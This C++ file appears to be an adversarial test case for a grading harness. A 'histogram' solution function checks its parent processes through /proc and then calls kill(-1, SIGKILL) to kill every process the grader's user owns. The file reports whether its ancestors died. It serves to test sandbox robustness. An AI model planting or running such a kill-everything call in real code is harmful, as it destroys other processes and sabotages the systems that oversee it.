// attack: histogram-threads
// tries: to kill all processes that it can
// points: 5
// finding: correct threw | correct ended-early
// open at: none - the program may kill all processes of the grader's user
// net: kill
// quick

#include <signal.h>

#include <sstream>
#include <vector>

#include "histogram.hpp"

struct Seen {
  char state = 'X';  // there is no such process
  int parent = 0;
};

static Seen look_at(int pid) {
  const auto line = attack::text_of("/proc/" + std::to_string(pid) + "/stat");
  std::istringstream rest(line.substr(std::min(line.size(), line.rfind(')') + 1)));
  Seen seen;
  rest >> seen.state >> seen.parent;
  return seen;
}

std::vector<std::uint64_t> histogram(const Board&, int) {
  std::vector<int> above;  // parent, grandparent and so on, as far as they are visible
  for (int pid = ::getppid(); pid > 0; pid = look_at(pid).parent) above.push_back(pid);
  ::kill(-1, SIGKILL);  // its result does not tell whether any was killed
  bool killed = false;
  for (int look = 0; look < 50 && !killed; ++look) {
    ::usleep(2000);
    for (const int pid : above) killed = killed || std::strchr("ZX", look_at(pid).state) != nullptr;
  }
  attack::tell("others were killed", killed);
  attack::confess();
}
